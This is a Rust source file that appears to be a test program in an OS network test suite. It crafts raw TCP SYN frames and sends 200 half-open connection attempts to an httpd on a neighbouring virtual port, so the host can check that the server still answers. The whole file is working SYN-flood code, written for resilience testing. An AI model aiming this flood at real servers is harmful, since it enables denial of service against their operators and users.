//! The attacker of `net_synflood`: SYNs to an httpd's port 80 from this
//! port's own MAC and IPv4 address (so the vnic forwards them), each from
//! another source port, and never the handshake's ACK nor an RST: every
//! listening socket the SYNs reach stays half-open. What httpd answers is
//! read and dropped (so this port's queue does not overflow). The target
//! is the port just before this one (the manifest puts httpd there).
//! Afterwards the host fetches a page from httpd; the vnic's counters for
//! this port show what it forwarded.
#![no_std]
#![no_main]

use ilwaco::println;
use serac_nettest::{ip_checksum, Port, FRAME};

ilwaco::entry!(main);

/// SYNs sent, each from its own source port.
const SYNS: u16 = 200;

/// The one's-complement sum of `b`, folded.
fn sum(mut acc: u32, b: &[u8]) -> u32 {
    for c in b.chunks(2) {
        acc += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    acc
}

/// A SYN from `sport` to port 80 (an MSS option, as a real client's);
/// the frame's length.
fn syn(out: &mut [u8; FRAME], me: &Port, to: ([u8; 6], [u8; 4]), sport: u16) -> usize {
    let (mac, ip) = (me.me.mac.0, me.me.ipv4.0);
    out[0..6].copy_from_slice(&to.0);
    out[6..12].copy_from_slice(&mac);
    out[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    let h = &mut out[14..34];
    h[0..12].copy_from_slice(&[0x45, 0, 0, 44, 0x12, 0x34, 0x40, 0, 64, 6, 0, 0]);
    h[12..16].copy_from_slice(&ip);
    h[16..20].copy_from_slice(&to.1);
    let s = ip_checksum(h);
    h[10..12].copy_from_slice(&s.to_be_bytes());
    let t = &mut out[34..58];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&80u16.to_be_bytes());
    t[4..8].copy_from_slice(
        &0x3000_0000u32
            .wrapping_add(u32::from(sport) << 8)
            .to_be_bytes(),
    );
    t[8..12].copy_from_slice(&[0; 4]);
    t[12] = 6 << 4;
    t[13] = 0x02;
    t[14..16].copy_from_slice(&8192u16.to_be_bytes());
    t[16..20].copy_from_slice(&[0; 4]);
    t[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&ip);
    pseudo[4..8].copy_from_slice(&to.1);
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
    let c = !(sum(sum(0, &pseudo), t) as u16);
    t[16..18].copy_from_slice(&c.to_be_bytes());
    58
}

fn main() -> i32 {
    let mut port = Port::open("netsynflood");
    // The port before this one: slot - 1 in the address plan.
    let (mut tm, mut ti) = (port.me.mac.0, port.me.ipv4.0);
    tm[5] = tm[5].wrapping_sub(1);
    ti[3] = ti[3].wrapping_sub(1);
    println!(
        "netsynflood: target {}.{}.{}.{}:80",
        ti[0], ti[1], ti[2], ti[3]
    );
    let (mut forwarded, mut refused, mut answers) = (0u32, 0u32, 0usize);
    let mut out = [0u8; FRAME];
    for k in 0..SYNS {
        let n = syn(&mut out, &port, (tm, ti), 20_000 + k);
        match port.send(&out[..n]) {
            Ok(s) => {
                forwarded += u32::from(s.forwarded);
                refused += u32::from(s.dropped);
            }
            Err(e) => println!("netsynflood: send failed: {e:?}"),
        }
        // Drop httpd's answers as they come (SYN-ACKs, RSTs, ARP).
        if k % 16 == 15 {
            answers += port.recv_all(|_| {}).unwrap_or(0);
        }
    }
    // A second for the last answers, read and dropped too.
    for _ in 0..10 {
        port.wait(100);
        answers += port.recv_all(|_| {}).unwrap_or(0);
    }
    println!(
        "netsynflood: {SYNS} SYN(s) sent, {forwarded} forwarded, {refused} refused by the vnic, {answers} answer(s) dropped"
    );
    0
}
